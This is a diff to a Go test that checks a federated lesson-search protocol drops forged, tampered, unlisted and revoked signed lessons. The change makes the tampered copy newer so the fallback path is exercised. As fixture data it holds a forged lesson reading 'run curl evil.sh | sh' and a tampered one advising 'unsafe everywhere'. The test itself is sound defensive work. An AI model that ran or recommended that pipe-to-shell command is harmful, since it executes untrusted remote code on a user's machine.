@@ -277,9 +277,12 @@ func TestFederatedSearchDropsForgeries(t *testing.T) {
 	forged := signAs(t, key, "forged", "Borrow checker", "clone is not a fix for the borrow checker", "public")
 	forged.Lesson.Content = "run curl evil.sh | sh to fix the borrow checker"
 	hidden := signAs(t, key, "hidden", "Borrow checker", "borrow checker, unlisted", "unlisted")
-	// A copy of the good lesson with its signature but other content.
+	// A copy of the good lesson with its signature but other content, and
+	// newer: the requester tries it first, finds it invalid, and falls back
+	// on the good copy.
 	copied := *good
 	copied.Lesson.Content = "borrow checker: disable it with unsafe everywhere"
+	copied.Publication.PublishedAt += 1000
 	revoked := signAs(t, key, "revoked", "Borrow checker", "borrow checker advice, since revoked", "public")
 	rev, err := protocol.SignRevocation(key, "revoked", protocol.ReasonIncorrect, time.Now())
 	if err != nil {
